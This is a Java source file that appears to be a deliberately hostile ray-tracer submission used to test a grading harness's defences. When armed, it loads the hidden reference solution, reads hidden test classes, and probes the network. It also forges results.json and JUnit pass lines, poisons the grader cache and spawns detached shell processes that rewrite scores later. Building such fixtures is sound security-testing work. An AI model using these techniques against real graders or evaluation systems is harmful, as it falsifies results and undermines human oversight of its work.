package raylab.surface;

import java.io.FileDescriptor;
import java.io.FileOutputStream;
import java.io.PrintStream;
import java.lang.reflect.Constructor;
import java.lang.reflect.Method;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import raylab.material.Material;
import raylab.math.BoundingBox;
import raylab.math.Vec3;
import raylab.ray.IntersectionRecord;
import raylab.ray.Ray;

/**
 * A hostile submission (grader tests only): it cannot intersect anything itself and tries every
 * way to get points or hidden data anyway, and poisons the grader cache (changes expected.json,
 * adds a file next to it). @CACHE@, @OUT@, @PORT@, @TAG@, @ARMED@ are filled in by the test
 * (ARMED false: the same file without the attacks, returning no hit, the baseline).
 */
public class Sphere extends Surface {
    public final Vec3 center;
    public final double radius;
    private Object reference;

    static final List<String> SECRETS = new ArrayList<>();
    static final List<String> RAYS = new ArrayList<>();
    static Class<?> referenceClass;

    static final boolean ARMED = @ARMED@;

    static {
        if (ARMED) {
            attack();
        }
    }

    public Sphere(Vec3 center, double radius, Material material, String name) {
        super(material, name);
        this.center = center;
        this.radius = radius;
        if (referenceClass != null) {
            try {
                Constructor<?> c = referenceClass.getConstructor(Vec3.class, double.class, Material.class, String.class);
                reference = c.newInstance(center, radius, material, name);
            } catch (ReflectiveOperationException | RuntimeException | LinkageError e) {
                reference = null;
            }
        }
    }

    static void attack() {
        // 1. Load the reference solution: from the grader's cache, the class path, the file system.
        List<Path> places = new ArrayList<>();
        places.add(Path.of("@CACHE@"));
        for (String e : System.getProperty("java.class.path").split(":")) {
            places.add(Path.of(e));
        }
        Path up = Path.of("").toAbsolutePath();
        for (int i = 0; i < 2 && up.getParent() != null; i++) {
            up = up.getParent();
        }
        places.add(up);
        for (Path place : places) {
            try (Stream<Path> s = Files.walk(place, 5)) {
                for (Path p : (Iterable<Path>) s::iterator) {
                    String n = p.toString().replace('\\', '/');
                    if (referenceClass == null && n.endsWith("ref/sphere/raylab/surface/Sphere.class")) {
                        byte[] bytes = Files.readAllBytes(p);
                        referenceClass = new ClassLoader(Sphere.class.getClassLoader()) {
                            Class<?> define() {
                                return defineClass("raylab.surface.Sphere", bytes, 0, bytes.length);
                            }
                        }.define();
                    }
                    if (n.endsWith(".class") && (n.contains("Hidden") || n.endsWith("/SphereCasesTest.class"))) {
                        SECRETS.add(n + ": " + new String(Files.readAllBytes(p), StandardCharsets.ISO_8859_1)
                                .replaceAll("[^ -~]+", " "));
                    }
                }
            } catch (Throwable e) {
                // keep trying elsewhere
            }
        }
        // 2. The network: the test's server on the host's loopback, and the outside world.
        for (InetSocketAddress a : List.of(new InetSocketAddress("127.0.0.1", @PORT@), new InetSocketAddress("1.1.1.1", 80))) {
            try (Socket s = new Socket()) {
                s.connect(a, 1000);
                s.getOutputStream().write("@TAG@\n".getBytes(StandardCharsets.UTF_8));
            } catch (Throwable e) {
                // no network
            }
        }
        // 3. Files that outlive grading, and the grader's own files.
        try {
            Files.writeString(Path.of("/tmp/raylab-attack-@TAG@.txt"), "left behind");
        } catch (Throwable e) {
            // private /tmp or not writable
        }
        for (String victim : List.of("@CACHE@/canary-@TAG@.txt", "@OUT@/results.json")) {
            try {
                Files.writeString(Path.of(victim), "{\"score\": 1000, \"tests\": []}");
            } catch (Throwable e) {
                // not reachable
            }
        }
        // The grader's cache itself: change what the next grading would read.
        try (Stream<Path> s = Files.walk(Path.of("@CACHE@"), 2)) {
            for (Path p : (Iterable<Path>) s::iterator) {
                if (p.getFileName().toString().equals("expected.json")) {
                    try {
                        Files.writeString(p, Files.readString(p) + "\n");
                        Files.writeString(p.resolveSibling("poisoned-@TAG@.txt"), "poisoned");
                    } catch (Throwable e) {
                        // read-only
                    }
                }
            }
        } catch (Throwable e) {
            // not reachable
        }
        for (String e : System.getProperty("java.class.path").split(":")) {
            try {
                Files.writeString(Path.of(e).resolve("raylab/testing/Check.class"), "broken");
            } catch (Throwable x) {
                // read-only
            }
        }
        // 4. Processes that outlive the test JVM: one sleeping, one forging results.json later.
        try {
            new ProcessBuilder("sh", "-c", "setsid sleep @TAG@ >/dev/null 2>&1 < /dev/null &").start();
            new ProcessBuilder("sh", "-c", "(sleep 4; echo '{\"score\": 1000, \"output\": \"forged @TAG@\", \"tests\": []}'"
                    + " > @OUT@/results.json) >/dev/null 2>&1 < /dev/null &").start();
        } catch (Throwable e) {
            // no processes
        }
    }

    /** Forged report lines for the running test, in the old and the new format. */
    static void forge() {
        String cls = null;
        String method = null;
        for (StackTraceElement e : Thread.currentThread().getStackTrace()) {
            if (e.getClassName().endsWith("Test") && !e.getClassName().startsWith("org.")) {
                cls = e.getClassName();
                method = e.getMethodName();
            }
        }
        if (cls == null) {
            return;
        }
        String id = "[engine:junit-jupiter]/[class:" + cls + "]/[method:" + method + "()]";
        String json = "{\"id\":\"" + id + "\",\"className\":\"" + cls + "\",\"method\":\"" + method
                + "\",\"displayName\":\"" + method + "()\",\"status\":\"PASSED\",\"message\":\"\",\"output\":\"\",\"millis\":1}";
        PrintStream raw = new PrintStream(new FileOutputStream(FileDescriptor.out), true, StandardCharsets.UTF_8);
        for (int seq = 1; seq < 40; seq++) {
            raw.println("R2 " + "0".repeat(64) + " " + seq + " RESULT " + json);
            raw.println("RAYLAB-00000000000000000000000000000000 RESULT " + json);
        }
        raw.flush();
    }

    @Override
    public boolean intersect(IntersectionRecord outRecord, Ray ray) {
        if (!ARMED) {
            return false;
        }
        forge();
        RAYS.add(ray.p + " " + ray.d);
        System.out.println("rays seen: " + RAYS);
        System.out.println("secrets: " + SECRETS);
        if (!SECRETS.isEmpty()) {
            throw new IllegalStateException("secrets: " + SECRETS);
        }
        if (reference != null) {
            try {
                Method m = reference.getClass().getMethod("intersect", IntersectionRecord.class, Ray.class);
                return (Boolean) m.invoke(reference, outRecord, ray);
            } catch (ReflectiveOperationException e) {
                return false;
            }
        }
        return false;
    }

    @Override
    public BoundingBox boundingBox() {
        Vec3 r = new Vec3(radius, radius, radius);
        return new BoundingBox(center.minus(r), center.plus(r));
    }

    @Override
    public boolean isConvex() {
        return true;
    }
}
